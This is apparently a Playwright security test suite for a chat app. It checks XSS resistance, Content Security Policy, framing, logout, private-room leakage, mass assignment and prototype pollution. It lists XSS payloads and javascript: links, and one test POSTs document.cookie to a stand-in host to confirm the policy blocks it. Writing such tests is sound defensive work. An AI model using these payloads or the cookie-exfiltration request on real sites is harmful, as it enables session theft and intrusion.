import { randomUUID } from "node:crypto";
import { createServer } from "node:http";
import { expect, roomName, test } from "../fixtures/chat-world";
import { freePort } from "../fixtures/server";
import type { Chat } from "../pages/chat";

/** Markup that would leave a trace in the page, if anything ran it. */
const attacks = [
	"<img src=x onerror=broken()>",
	"<script>broken()</script>",
	"<svg/onload=broken()>",
	"<iframe srcdoc='<script>parent.broken()</script>'></iframe>",
	"<a href=javascript:broken()>x</a>",
	"\"'><b onmouseover=broken()>",
	"{{constructor.constructor('broken()')()}}",
];

/** Links that would run something, or tell somebody who reads. */
const links = [
	"[a](javascript:broken())",
	"[b](JaVaScRiPt:broken())",
	"[c](java&#115;cript:broken())",
	"[d](data:text/html,<script>broken()</script>)",
	"[e](vbscript:broken())",
	"<javascript:broken()>",
	"![seen](https://example.invalid/seen.png)",
	"[f][g]\n\n[g]: javascript:broken()",
];

/** Notes whatever ran, and whatever the page asked of strangers. */
async function watched(chat: Chat): Promise<() => Promise<string[]>> {
	const strangers: string[] = [];
	const home = new URL(chat.page.url()).host;
	chat.page.on("request", (request) => {
		if (new URL(request.url()).host !== home) strangers.push(request.url());
	});
	const arm = () => Object.assign(window, { ran: [], broken: () => Reflect.get(window, "ran").push("ran") });
	await chat.page.addInitScript(arm);
	await chat.page.evaluate(arm);
	return async () => [...strangers, ...(await chat.page.evaluate(() => Reflect.get(window, "ran") as string[]))];
}

const inert = "script:not([src]), img, svg:not(.mark), iframe, object, embed, [onerror], [onload], [onmouseover]";

test("H215 markup in messages is text, and links that would run are inert", async ({ together }) => {
	const [alice, bob] = await together();
	const harm = await watched(bob);
	for (const text of [...attacks, ...links]) await alice.says(text);
	await expect(bob.log.getByRole("article")).toHaveCount(attacks.length + links.length);
	await expect(bob.log.locator(inert)).toHaveCount(0);
	for (const link of await bob.log.getByRole("link").all()) {
		expect(await link.getAttribute("href")).toMatch(/^https?:/);
		await expect(link).toHaveAttribute("rel", /noopener/);
	}
	await expect(bob.log.locator("a:not([href^=http])[href]")).toHaveCount(0);
	for (const anchor of await bob.log.locator(".message-body a").all()) await anchor.dispatchEvent("click");
	for (const text of attacks.slice(0, 4)) await expect(bob.message(text)).toHaveCount(1);
	expect(await harm()).toEqual([]);
});

test("H215 markup in names, topics, statuses and announcements is text wherever it stands", async ({ enters }) => {
	const name = "<img src=x onerror=broken()>";
	const topic = "<script>broken()</script> <svg/onload=broken()>";
	const [alice, bob] = [await enters(name, "moderator"), await enters("Bob")];
	const harm = await watched(bob);
	const room = `<b onclick=broken()>${randomUUID().slice(0, 8)}</b>`;
	await alice.page.evaluate(async (status) => {
		const answer = await fetch("/api/profile", {
			method: "PATCH",
			headers: { "Content-Type": "application/json" },
			body: JSON.stringify({ status }),
		});
		await answer.text(); // whoever looks for secrets waits for the end of every answer
	}, topic);
	await alice.makesARoom(room, { topic });
	await bob.joins(room);
	await alice.says("hello");
	await bob.details.open();
	await expect(bob.details.member(name)).toContainText("<script>broken()</script>");
	await alice.box.pressSequentially("and a good day to you", { delay: 200 }); // signs of it go out every 2.5 s
	await expect(bob.typing).toHaveText(`${name} is writing`);
	await alice.announces(`${topic} ${room}`);
	await expect(bob.announcement).toContainText("<svg/onload=broken()>");
	await bob.writesTo(alice.account);
	await expect(bob.room(name)).toBeVisible();
	await expect(bob.page.locator(`main :is(${inert}), [aria-label=Rooms] :is(${inert}, b)`)).toHaveCount(0);
	expect(await harm()).toEqual([]);
});

test("H216 a script that got into the page could not run, and could call nobody", async ({ enters }) => {
	const alice = await enters("Alice");
	const outcome = await alice.page.evaluate(async () => {
		const told: string[] = [];
		document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => told.push(effectiveDirective));
		const inline = document.createElement("script");
		inline.textContent = "window.inline = true";
		document.body.append(inline);
		const image = new Image();
		image.src = "https://example.invalid/x.png";
		await fetch("https://example.invalid/", { method: "POST", body: document.cookie }).catch(() => {});
		await new Promise((resolve) => {
			image.onerror = resolve;
		});
		document.body.insertAdjacentHTML("beforeend", "<button id=h onclick='window.inline = true'>x</button>");
		document.getElementById("h")?.click();
		return { ran: "inline" in window, told: [...new Set(told)].sort() };
	});
	expect(outcome.ran).toBe(false);
	expect(outcome.told).toEqual(expect.arrayContaining(["connect-src", "img-src", "script-src-elem"]));
});

test("H217 another site can't show the chat in a frame", async ({ enters, address }) => {
	const alice = await enters("Alice");
	const port = await freePort();
	const evil = createServer((_, answer) => {
		answer.setHeader("Content-Type", "text/html");
		answer.end(`<iframe src="${address}" width="600" height="400"></iframe>`);
	}).listen(port, "127.0.0.1");
	try {
		const tab = await alice.page.context().newPage();
		const refused = tab.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
		await tab.goto(`http://127.0.0.1:${port}/`);
		await refused;
		await expect(tab.frameLocator("iframe").getByText("Yodel")).toHaveCount(0);
	} finally {
		evil.close();
	}
});

test("H218 after signing out, going back shows nothing of the chat", async ({ together }) => {
	const [alice, , room] = await together();
	await alice.says("only while I am here");
	await alice.sees("only while I am here");
	await alice.page.getByRole("link", { name: "Find somebody" }).click();
	await expect(alice.page.getByRole("heading", { name: "People" })).toBeVisible();
	await alice.signsOut();
	for (let back = 0; back < 2; back++) {
		await alice.page.goBack();
		if (!alice.page.url().startsWith("http")) break; // before the first page
		await expect(alice.page.getByRole("heading", { name: "Sign in to Yodel" })).toBeVisible();
		await expect(alice.page.getByText("only while I am here")).toHaveCount(0);
		await expect(alice.page.getByText(room)).toHaveCount(0);
	}
});

test("H190 somebody else's private room has an address that shows what no address shows", async ({ enters }) => {
	const [alice, mallory] = [await enters("Alice"), await enters("Mallory")];
	const room = roomName();
	await alice.makesARoom(room, { kind: "Only by invitation" });
	await alice.says("a secret among friends");
	await alice.sees("a secret among friends");
	const path = new URL(alice.page.url()).pathname;
	const frames: string[] = [];
	mallory.page.on("websocket", (socket) => socket.on("framereceived", ({ payload }) => frames.push(String(payload))));
	const shown: string[] = [];
	for (const address of [path, `/rooms/${randomUUID()}`]) {
		await mallory.page.goto(address);
		await mallory.is("Live");
		await expect(mallory.page.getByRole("heading", { name: "You are not in this room" })).toBeVisible();
		shown.push(await mallory.page.getByRole("main").innerText());
	}
	expect(shown[0]).toBe(shown[1]);
	expect(frames.join("\n")).not.toContain(room);
	expect(frames.join("\n")).not.toContain("a secret among friends");
	await mallory.page.getByRole("button", { name: "Browse" }).click();
	await mallory.page.getByRole("textbox", { name: "Search rooms" }).fill(room);
	await expect(mallory.page.getByText("No public room has such a name.")).toBeVisible();
});

test("H225 fields that nobody asked for change nothing", async ({ together }) => {
	const [alice, bob] = await together();
	const answers = await bob.page.evaluate(async (other) => {
		const send = async (method: string, path: string, body: object) => {
			const headers = { "Content-Type": "application/json" };
			const answer = await fetch(path, { method, headers, body: JSON.stringify(body) });
			return answer.json();
		};
		const room = location.pathname.split("/")[2];
		const key = crypto.randomUUID();
		return {
			profile: await send("PATCH", "/api/profile", { name: "Robert", role: "admin", id: other, username: "root" }),
			said: await send("POST", `/api/rooms/${room}/messages`, {
				key,
				text: "as somebody else",
				author: { id: other },
				author_id: other,
				number: 1,
				sent_at: "2001-01-01T00:00:00Z",
				room_id: other,
			}),
			me: await (await fetch("/api/me")).json(),
		};
	}, alice.username);
	expect(answers.me).toMatchObject({ role: "member", username: bob.username, name: "Robert" });
	expect(answers.said.author.username).toBe(bob.username);
	expect(answers.said.sent_at).not.toContain("2001");
	await alice.sees("as somebody else");
	await expect(alice.page.getByRole("article", { name: "Message of Robert" })).toBeVisible();
});

test("H227 a name that would change every object is a name, and storage has no token", async ({ together }) => {
	const [alice, bob] = await together();
	await alice.says('`{"__proto__":{"isAdmin":true}} constructor.prototype`');
	await bob.sees("constructor.prototype");
	await bob.reacts("👍", "constructor.prototype");
	await alice.seesReaction("👍", 1, "constructor.prototype");
	expect(await bob.page.evaluate(() => "isAdmin" in {})).toBe(false);
	const kept = await bob.page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
	expect(kept).not.toMatch(/eyJ|token|ticket|password/i);
});
